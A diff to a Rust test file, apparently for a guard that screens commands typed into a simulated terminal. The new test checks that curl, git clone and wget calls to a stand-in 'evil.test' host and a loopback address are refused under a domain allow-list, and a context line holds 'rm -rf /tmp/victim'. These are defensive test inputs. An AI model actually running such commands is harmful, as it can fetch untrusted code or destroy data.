@@ -319,3 +319,28 @@ proptest! {
         prop_assert!("rm -rf /tmp/victim".starts_with(&t.line()), "line {:?} via {:?}", t.line(), pieces);
     }
 }
+
+#[test]
+fn commands_reaching_hosts_outside_the_allowed_domains_are_refused() {
+    let sim = SimDesktop::new(Size::new(1280, 800));
+    let win = sim.add_window(WindowSpec::new("XTerm", "xterm").class("XTerm").bounds(Rect::new(100, 100, 700, 400)));
+    let shell = sim.add_widget(
+        win,
+        Widget::terminal("Terminal", Vec::<String>::new()).at(110, 130, 680, 360).ax_hidden().focused(),
+    );
+    let mut cfg = config();
+    cfg.url_policy.allowed_domains = vec!["example.com".into()];
+    let engine = Engine::new(sim.desktop(), cfg);
+    let mut t = Term { fx: Fx { sim, engine, win }, shell };
+    t.fx.turn(DISK, Mode::Unattended);
+    t.fx.see();
+    allowed(&t.key("ctrl+c"));
+    for line in ["curl -s https://evil.test/x", "git clone ssh://git@evil.test/r.git", "wget 'http://127.0.0.2:8080/'"]
+    {
+        let o = t.typ(&format!("{line}\n"));
+        assert_eq!(o.status, Status::Refused, "{}", o.text());
+        assert!(matches!(o.guard, GuardDecision::Refused { rule: "url" }), "{}", o.text());
+    }
+    allowed(&t.typ("curl -s https://example.com/\n"));
+    assert_eq!(t.ran(), ["curl -s https://example.com/"]);
+}
